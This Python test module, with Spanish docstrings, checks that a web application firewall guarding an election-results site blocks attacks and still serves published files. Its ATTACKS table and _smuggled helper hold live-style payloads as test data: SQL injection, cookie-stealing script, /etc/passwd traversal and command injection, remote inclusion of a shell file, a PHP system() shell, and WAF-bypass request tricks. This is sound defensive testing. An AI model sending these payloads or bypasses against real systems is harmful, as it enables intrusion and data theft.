"""The web application firewall: it stops attacks wherever the application is asked, and nothing published is lost."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from typing import Any
from urllib.parse import quote
from uuid import uuid4

import pinned
import pytest
from corte_fixtures import SHOWN, steadily
from patience import one_of_each_kind, send_patiently
from testinfra.host import Host
from web_fixtures import declared, logged, request

from corte.format import limits
from difusor.inventory.excepted import INSPECTED
from difusor.servers.rawhttp import send
from difusor.suite.waiting import until

Expect = Callable[[str], dict[str, Any]]
Record = Callable[[object], None]
Container = dict[str, Any]

ATTACKS = {
    "inyección SQL": "?id=1%27%20OR%20%271%27=%271%27--%20",
    "inyección SQL con UNION": "?id=-1%20UNION%20SELECT%20user,password%20FROM%20users",
    "guion en un parámetro": "?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "guion en un atributo": "?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "recorrido de carpetas": "?archivo=../../../../etc/passwd",
    "recorrido de carpetas codificado": "?archivo=..%252f..%252fetc%252fpasswd",
    "órdenes al sistema": "?host=127.0.0.1;cat%20/etc/passwd",
    "órdenes al sistema con $()": "?host=$(/bin/cat%20/etc/passwd)",
    "inclusión remota": "?pagina=http://203.0.113.7/shell.txt?",
    "código PHP": "?q=%3C?php%20system($_GET[c]);?%3E",
    "clases de Java": "?q=java.lang.Runtime.getRuntime().exec(1)",
    "archivos de administración": ".git/config",
    "secretos de la aplicación": ".env",
    "respaldos": "wp-config.php.bak",
    "división de la respuesta": "?q=a%0d%0aSet-Cookie:%20sesion=1",
}
ORIGINS = {"archive": "archivo de sus autores", "distribution": "paquete de Debian"}
FIRST_SUPPORTED = 4  # version 3.3 lost its authors' support in 2026
SECRET = "marca-del-ataque"
WITNESS = "testigo"  # asked of the application itself, to prove that what reaches it is heard
PAYLOAD = f"<script>{SECRET}</script>"
# Listens on the bridge between nginx and the application until the witness passes, and says how often the attack did.
# Tells systemd when it has begun.
LISTENER = """
import os, socket, sys
bridge, attack, witness = sys.argv[1], sys.argv[2].encode(), sys.argv[3].encode()
heard = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # 3: packets of all protocols
heard.bind((bridge, 0))
told = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
told.sendto(b"READY=1", os.environ["NOTIFY_SOCKET"].replace("@", chr(0), 1))
attacks, packet = 0, b""
while witness not in packet:
    packet = heard.recv(1 << 17)
    attacks += attack in packet
print("ataques:", attacks)
"""
# Asks the application on its port of the server's loopback for a file that it does not have.
ASK_APPLICATION = """
import http.client, sys
connection = http.client.HTTPConnection(sys.argv[1], timeout=10)
connection.request("GET", f"/{sys.argv[2]}")
print(connection.getresponse().status)
"""


@pytest.fixture
def application(host: Host) -> Container:
    """Return what `docker inspect` says of the PREP container."""
    name = host.check_output("docker ps --filter label=prep-difusor.role=prep --format '{{.Names}}'")
    inspected: Container = json.loads(host.check_output("docker inspect %s", name))[0]
    return inspected


@pytest.fixture
def listener(host: Host) -> str:
    """Start the listener, and return its unit; an image need not log what it is asked for. It ends by itself."""
    unit = f"prueba-puente-{uuid4().hex[:8]}"
    options = f"--quiet --collect --unit={unit} --property=Type=notify --property=RuntimeMaxSec=5min"
    bridge = host.check_output(
        "docker network inspect prep --format '{{index .Options \"com.docker.network.bridge.name\"}}'"
    )
    host.check_output(f"systemd-run {options} python3 -u -c %s %s %s %s", LISTENER, bridge, SECRET, WITNESS)
    return unit


@pytest.fixture
def container(host: Host) -> Container:
    """Return what `docker inspect` says of the WAF container; fail unless there is exactly one."""
    names = host.check_output("docker ps --filter label=prep-difusor.role=waf --format '{{.Names}}'").split()
    assert len(names) == 1, f"se esperaba un contenedor del WAF y hay {len(names)}"
    return until(
        lambda: json.loads(host.check_output(f"docker inspect {names[0]}"))[0],
        lambda inspected: inspected["State"]["Health"]["Status"] != "starting",
        what="el WAF tenga un resultado de su propia comprobación",
    )


@pytest.mark.xdist_group("limits")
@pytest.mark.clause("RED-07")
def test_attacks_are_refused(
    host: Host, variables: dict[str, Any], inspected: list[str], expect: Expect, record_evidence: Record
) -> None:
    """El WAF rechaza ataques clásicos: inyección, guiones, recorrido de carpetas, órdenes, archivos prohibidos.

    In the folder of the constant answer, and in each that is declared dynamic while the gate is open.
    """
    attacks = {f"{folder}: {name}": f"{folder}{path}" for folder in inspected for name, path in ATTACKS.items()}
    harmless = [request(variables, folder) for folder in inspected]
    answers = send_patiently(host, variables, [*(request(variables, path) for path in attacks.values()), *harmless])
    found = {name: answer["statuses"] for name, answer in zip(attacks, answers, strict=False)}
    spared = [answer["statuses"] for answer in answers[len(attacks) :]]
    record_evidence({**found, "sin ataque": spared})
    blocked = expect("RED-07")["blocked_status"]
    passed = [name for name, statuses in found.items() if statuses[0] not in blocked]
    assert not passed, f"pasaron: {passed}"
    assert not [statuses for statuses in spared if statuses[0] in blocked], "el WAF rechaza también lo que no es ataque"


@pytest.mark.xdist_group("limits")
@pytest.mark.clause("RED-07")
def test_what_would_keep_the_waf_busy_is_refused(
    host: Host, variables: dict[str, Any], expect: Expect, record_evidence: Record
) -> None:
    """El WAF no revisa miles de cookies o de encabezados, ni kilobytes de `<`; lo que manda un navegador pasa."""
    few, many = [("Cookie: " + "; ".join(f"a{each}=1" for each in range(number))) for number in (180, 900)]
    some, lots = ["\r\n".join(f"X-A{each}: 1" for each in range(number)) for number in (40, 300)]
    passing = {"180 cookies": few, "40 encabezados": some, "paréntesis": "User-Agent: Mozilla/5.0 (a; b) (c) {d}"}
    refused = {"900 cookies": many, "300 encabezados": lots}
    marks = ("<", "<!--", "%3c", "&lt;", "\\x3c")
    refused |= {f"User-Agent de {mark}": f"User-Agent: {mark * (7000 // len(mark))}" for mark in marks}
    refused |= {f"cookie de {mark}": f"Cookie: a={mark * (7000 // len(mark))}" for mark in ("<", "${", "$(")}
    headers = passing | refused
    answers = send_patiently(host, variables, [request(variables, INSPECTED, header) for header in headers.values()])
    found = {name: answer["statuses"][0] for name, answer in zip(headers, answers, strict=True)}
    record_evidence(found)
    blocked = expect("RED-07")["blocked_status"]
    assert {name for name, status in found.items() if status in blocked} == set(refused)


@pytest.mark.xdist_group("limits")
@pytest.mark.clause("RED-07")
@pytest.mark.usefixtures("open_gate")
def test_no_attack_is_smuggled_past_the_waf(
    host: Host, variables: dict[str, Any], application: Container, listener: str, record_evidence: Record
) -> None:
    """Ningún ataque llega a la aplicación por otro camino: codificación, cookies, cuerpos, URI absoluta, cabeceras."""
    texts = _smuggled(variables)
    answers = send_patiently(host, variables, texts)  # what nginx refuses for its pace never met the WAF
    door = application["NetworkSettings"]["Ports"]["8080/tcp"][0]
    address = f"{door['HostIp']}:{door['HostPort']}"
    host.check_output("python3 -c %s %s %s", ASK_APPLICATION, address, WITNESS)
    # The witness is asked for last: once it has been heard, all that reached the application before has been too.
    heard = until(
        lambda: host.check_output("journalctl --unit %s --output=cat --no-pager", listener),
        lambda said: "ataques" in said,
        what="se oiga lo que la aplicación recibe",
    )
    record_evidence(f"{len(texts)} intentos y un testigo: {[answer['statuses'] for answer in answers]}")
    assert "ataques: 0" in heard, "un ataque llegó a la aplicación"
    assert not any(SECRET in answer["body"] for answer in answers), "un ataque volvió en la respuesta"


@pytest.mark.xdist_group("limits")
@pytest.mark.clause("RED-07", "DG-02")
@pytest.mark.usefixtures("open_gate")
def test_everything_published_passes_the_waf(host: Host, variables: dict[str, Any], record_evidence: Record) -> None:
    """Cada archivo del corte y de la página se entrega, también con argumentos, y ningún nombre suyo molesta al WAF.

    The WAF's rules see one name of each kind and a sample: they take requests at a slow pace, and a corte with images
    of actas has thousands.
    """

    def refused() -> dict[str, list[int]]:
        files = "find -L %s -type f ! -name '*.gz' -printf '%%P\\n'"
        published = host.check_output(files, SHOWN).splitlines()
        page = send(host, variables, [request(variables, "")])[0]["body"]
        linked = [path for path in re.findall(r'(?:href|src)="([^"#]+)"', page) if not re.match(r"[a-z]+:|/", path)]
        asked = ["", "index.html", *linked, *published]
        past_rules = one_of_each_kind(asked)
        paths = [f"{quote(path)}?revision=1" for path in asked]
        paths += [f"{INSPECTED}{quote(path)}?revision=1" for path in past_rules]
        texts = [request(variables, path).replace("GET", "HEAD", 1) for path in paths]
        found = dict(zip(paths, (answer["statuses"] for answer in send_patiently(host, variables, texts)), strict=True))
        record_evidence(
            f"{len(asked)} rutas pedidas; ante las reglas del WAF, {len(past_rules)}: una de cada tipo y carpeta, "
            "y otras por sorteo"
        )
        return {path: statuses for path, statuses in found.items() if statuses != [200]}

    found = steadily(lambda: host.check_output("readlink %s", SHOWN), refused, lambda wrong: not wrong)
    record_evidence(f"{len(found)} rechazadas")
    assert not found


@pytest.mark.xdist_group("limits")
@pytest.mark.clause("RED-07")
@pytest.mark.usefixtures("open_gate")
def test_what_can_be_asked_for_is_known(
    host: Host, variables: dict[str, Any], application: Container, record_evidence: Record
) -> None:
    """Solo existe lo que el corte, la imagen y la elección dicen; aquí consta si la aplicación es cerrada o abierta.

    Each request is found in nginx's log by a mark: whether the WAF inspected it, and whether anybody behind nginx was
    asked. The image's files may come from the cache.
    """
    opened = variables.get("election_open_application", False)
    mark = host.check_output("date +%s%N")
    files = application["Config"]["Labels"].get("prep-difusor.files", "").split()
    disk, nobody = ("200 sin revisión", "nadie"), ("404 sin revisión", "nadie")
    unknown = ("404 sin revisión", "aplicación") if opened else nobody
    strange = ("404 revisada", "aplicación") if opened else nobody
    wanted = {
        f"datos/corte.json?fbclid={mark}": disk,
        f"datos/corte.json?x={mark}": disk,
        f"datos/{mark}.json": nobody,
        f"descargas/{mark}.json": nobody,
        f"datos/corte.json.gz?x={mark}": nobody,  # the compressed copy is on the disk, but is no file of the corte
        f"datos/{mark}.json.gz": nobody,
        f"corte.json/{mark}.json": unknown,
        f"{mark}.html": unknown,
        f"{mark}": strange,
        f"DATOS/corte.json?x={mark}": strange,
        f"{INSPECTED}?x={mark}": ("200 revisada", "aplicación"),
        **{f"{folder}{mark}?x={mark}": ("404 revisada", "aplicación") for folder in declared(variables)},
    }
    served = [f"{file}?x={mark}" for file in files]
    asked = [*wanted, *served]
    answers = send_patiently(host, variables, [request(variables, path) for path in asked])
    statuses = [answer["statuses"] for answer in answers]

    def noted() -> list[re.Match[str]]:
        shown = logged(host, mark)
        line = '"GET (?:%s)?%s HTTP.*? (?P<status>\\d+) .* fast=(?P<fast>\\d) .* upstream=(?P<upstream>\\S+)'
        found = [re.search(line % (re.escape(variables["difusor_path"]), re.escape(path)), shown) for path in asked]
        return [each for each in found if each]

    lines = until(noted, lambda found: len(found) == len(asked), what="nginx anote cada solicitud", every=0.5)
    roads = [
        (f"{each['status']} {'sin revisión' if each['fast'] == '1' else 'revisada'}",
         "nadie" if each["upstream"] == "-" else "aplicación")
        for each in lines
    ]  # fmt: skip
    folders = [folder["path"] for folder in variables.get("election_dynamic_paths", [])]
    kind = "ABIERTA: lo que nadie declaró se le pregunta" if opened else "cerrada: lo que nadie declaró no existe"
    record_evidence(
        f"aplicación {kind}; archivos de su imagen: {len(files)}; carpetas que calcula, siempre tras el WAF: "
        f"{', '.join(folders) or 'ninguna'}; {dict(zip(asked, roads, strict=True))}"
    )
    assert dict(zip(wanted, roads, strict=False)) == wanted
    assert statuses[len(wanted) :] == [[200]] * len(served)
    assert {road for road, _ in roads[len(wanted) :]} <= {"200 sin revisión"}


@pytest.mark.clause("RED-07")
def test_waf_engine_blocks(host: Host, record_evidence: Record) -> None:
    """El motor bloquea (no solo registra), con el nivel y las excepciones que aquí se listan con su razón."""
    settings = host.check_output("cat /etc/waf/settings.conf /etc/waf/exclusions.conf")
    record_evidence("; ".join(line for line in settings.splitlines() if line and "Managed by" not in line))
    assert re.search(r"^SecRuleEngine On$", settings, re.MULTILINE)


@pytest.mark.clause("RED-07", "DG-04")
def test_no_corte_may_have_a_file_type_that_the_rules_refuse(
    host: Host, container: Container, record_evidence: Record
) -> None:
    """Los tipos de archivo que las reglas de OWASP niegan no se firman: todo lo que se firma se entrega."""
    rules = f"{container['Name'].lstrip('/')}:/usr/share/waf/crs/rules/REQUEST-901-INITIALIZATION.conf"
    found = re.findall(r"tx[.]restricted_extensions=([^']+)'", host.check_output("docker cp %s -", rules))
    types = {name.strip("./") for listed in found for name in listed.split()}
    record_evidence(f"{len(types)} tipos en las reglas; los que no se firman: {', '.join(limits.REFUSED_TYPES)}")
    assert types and types <= set(limits.REFUSED_TYPES)


@pytest.mark.clause("RED-07")
def test_rule_set_is_known(container: Container, record_evidence: Record) -> None:
    """El WAF aplica las reglas de OWASP (Core Rule Set) en la versión que aquí se dice, con su origen."""
    labels = container["Config"]["Labels"]
    version, origin = labels["prep-difusor.ruleset"], labels["prep-difusor.ruleset-origin"]
    ended = "" if int(version.split(".")[0]) >= FIRST_SUPPORTED else "; sus autores ya no le dan mantenimiento"
    record_evidence(f"OWASP CRS {version}, origen: {ORIGINS[origin]}{ended}")


@pytest.mark.criterion("RED-07")
def test_image_is_the_pinned_one(
    host: Host, container: Container, variables: dict[str, Any], record_evidence: Record
) -> None:
    """El contenedor del WAF corre la imagen fijada por su SHA-256."""
    pinned.check(host, container, variables["difusor_waf_image"], record_evidence)


@pytest.mark.criterion("RED-07")
def test_container_is_confined(host: Host, container: Container, record_evidence: Record) -> None:
    """El WAF corre sin red ni privilegios, en la mitad de los procesadores, y solo escribe en su enchufe y en /tmp."""
    limits, pid = container["HostConfig"], container["State"]["Pid"]
    lines = host.check_output(f"cat /proc/{pid}/status").splitlines()
    status = dict(line.split(":\t", 1) for line in lines if ":\t" in line)
    interfaces = host.check_output(f"awk 'NR > 2 {{print $1}}' /proc/{pid}/net/dev").split()
    processors = int(host.check_output("nproc"))
    allowed = sum(_length(each) for each in status["Cpus_allowed_list"].split(","))
    record_evidence(
        f"red {limits['NetworkMode']} {interfaces}, uid {status['Uid'].split()[0]}, capacidades {status['CapEff']}, "
        f"NoNewPrivs {status['NoNewPrivs']}, Seccomp {status['Seccomp']}, memoria {limits['Memory'] >> 20} MiB, "
        f"{allowed} de {processors} procesadores"
    )
    assert limits["NetworkMode"] == "none"
    assert interfaces == ["lo:"]
    assert limits["ReadonlyRootfs"] is True
    assert not limits["Privileged"]
    assert status["Uid"].split() == ["10002"] * 4
    assert int(status["CapEff"], 16) == 0
    assert status["NoNewPrivs"] == "1"
    assert status["Seccomp"] == "2"
    assert 0 < limits["Memory"] == limits["MemorySwap"]
    assert limits["PidsLimit"] > 0
    assert allowed <= (processors + 1) // 2
    mounts = {mount["Destination"]: mount["RW"] for mount in container["Mounts"]}
    assert mounts == {"/etc/waf": False, "/run/app": False, "/run/waf": True}
    assert list(limits["Tmpfs"]) == ["/tmp"]


@pytest.mark.criterion("RED-07")
def test_container_recovers(container: Container, record_evidence: Record) -> None:
    """El WAF está sano según su propia comprobación y vuelve solo tras un reinicio."""
    health, policy = container["State"]["Health"]["Status"], container["HostConfig"]["RestartPolicy"]["Name"]
    record_evidence(f"{health}, reinicio {policy}")
    assert health == "healthy"
    assert policy == "always"


def _length(span: str) -> int:
    """Return how many processors the kernel's list names with "3" or "0-3"."""
    first, _, last = span.partition("-")
    return int(last or first) - int(first) + 1


def _smuggled(variables: dict[str, Any]) -> list[str]:
    """Return requests that carry an attack by another road than a plain query."""
    base, name = variables["difusor_path"], variables["difusor_fqdn"]
    coded = quote(PAYLOAD)
    lines = [
        f"GET {base}?q={coded} HTTP/1.1",
        f"GET {base}?fbclid={coded} HTTP/1.1",
        f"GET {base}index.html?fbclid=a&q={coded} HTTP/1.1",
        f"GET https://{name}{base}?q={coded} HTTP/1.1",
        f"GET https://{name}?q={coded} HTTP/1.1",
        f"GET {base}datos/corte.json?q={coded} HTTP/1.1",
        f"GET {base}datos/{coded}.json HTTP/1.1",
        f"GET {base}index.html/{coded}.html HTTP/1.1",
        f"GET {base}/index.html?q={coded} HTTP/1.1",
        f"GET {base}.//index.html?q={coded} HTTP/1.1",
        f"GET {base}%69ndex.html?q={coded} HTTP/1.1",
        f"GET {base}datos/..;/index.html?q={coded} HTTP/1.1",
        f"GET {base}_fast/?q={coded} HTTP/1.1",
        f"GET {base}_fast/{coded} HTTP/1.1",
        f"GET {base}_aviso/../?q={coded} HTTP/1.1",
        f"GET {base}{coded} HTTP/1.1",
        f"GET {base}?q={PAYLOAD} HTTP/1.1",
        f"GET {base}?q=%00{coded} HTTP/1.0",
        f"GET {INSPECTED}..;/..;{base}?q={coded} HTTP/1.1",
        f"GET {INSPECTED}../../..{base}?q={coded} HTTP/1.1",
    ]
    for folder in declared(variables):
        inside = folder.removeprefix(base)
        lines += [
            f"GET {folder}?q={coded} HTTP/1.1",
            f"GET {folder}{coded} HTTP/1.1",
            f"GET https://{name}{folder}?q={coded} HTTP/1.1",
            f"GET {base}/{inside}?q={coded} HTTP/1.1",
            f"GET {base}nada/../{inside}?q={coded} HTTP/1.1",
            f"GET {base}%{ord(inside[0]):x}{inside[1:]}?q={coded} HTTP/1.1",
            f"GET {folder}..;/{inside}?q={coded} HTTP/1.1",
            f"GET {INSPECTED}../../..{folder}?q={coded} HTTP/1.1",
        ]
    texts = [f"{line}\r\nHost: {name}\r\nConnection: close\r\n\r\n" for line in lines]
    for path in ("", *declared(variables)):
        texts += [
            request(variables, path, f"Cookie: a={PAYLOAD}"),
            request(variables, path, f"Content-Length: {len(PAYLOAD)}") + PAYLOAD,
            request(variables, path, "Transfer-Encoding: chunked") + f"{len(PAYLOAD):x}\r\n{PAYLOAD}\r\n0\r\n\r\n",
            request(variables, path, f"X-Original-URL: /?q={coded}"),
            request(variables, path, f"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\nX-Rewrite-URL: {coded}"),
            f"GET {path or base} HTTP/1.1\r\nHost: {name}\r\nHost: {SECRET}\r\nConnection: close\r\n\r\n",
        ]
    return texts
